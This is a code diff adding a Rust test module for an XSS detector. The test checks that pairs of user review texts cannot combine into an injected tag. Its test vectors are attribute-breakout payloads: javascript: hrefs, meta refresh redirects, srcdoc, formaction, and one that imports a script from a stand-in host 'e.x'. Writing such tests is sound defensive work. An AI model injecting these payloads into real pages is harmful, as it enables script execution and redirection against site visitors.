@@ -73,3 +73,44 @@ fn is_foreign(value: &[u8]) -> bool {
     let slashes = value.iter().take_while(|byte| matches!(byte, b'/' | b'\\')).count();
     begins(b"http:") || begins(b"https:") || (slashes > 1 && value.len() > slashes)
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::xss::detect;
+
+    /// Two reviews made one tag of the page between them: the second opened it and a quote, the first closed that.
+    #[test]
+    fn no_two_values_make_a_tag_between_them() {
+        for text in [
+            "' href=javascript:import('http://e.x/x.js') style=position:fixed;inset:0>Our size guide</a>",
+            "' http-equiv=refresh content=0;url=//e.x/cart>",
+            "' href=javascript:x()",
+            "' srcdoc='x'",
+            "\" formaction=javascript:x() type=image src=x \"",
+            "\" xlink:href=java&#115;cript:x() ",
+            "' x='<' href=javascript:x() y='",
+            "' x='</' href=javascript:x() y='",
+            "<b>\" href=javascript:name x=\"",
+            "<b>hi</b>' href=javascript:name x='",
+            "<b title='a'>\" href=//e.x/ x=\"",
+            "<b>\" http-equiv=refresh content=0;url=//e.x x=\"",
+            "<i><b>\" style=\"width:expression(x)",
+            "Lovely. <a x='",
+            "Lovely. <meta x='",
+            "Lovely. <base x=\"and so on",
+        ] {
+            assert!(detect(text.as_bytes()).is_some(), "{text}");
+        }
+        for text in [
+            "Mugs 'Peat' for 5 < 6 and it's \"good\"",
+            "<a href=\"/size\" title='guide'>Size guide</a> for \"href\" fans",
+            "I <b>love</b> it, 5\" wide = fine",
+            "a 'quote' with src=/images/mug.jpg",
+            "<p>5\" tall</p><a title=\"a > b\" href=\"https://a.example/\">x</a>",
+            "<p>\"Peat\" is <a href='https://a.example/'>here</a></p> and it's 5\" wide",
+            "x <y and it's z",
+        ] {
+            assert_eq!(detect(text.as_bytes()), None, "{text}");
+        }
+    }
+}
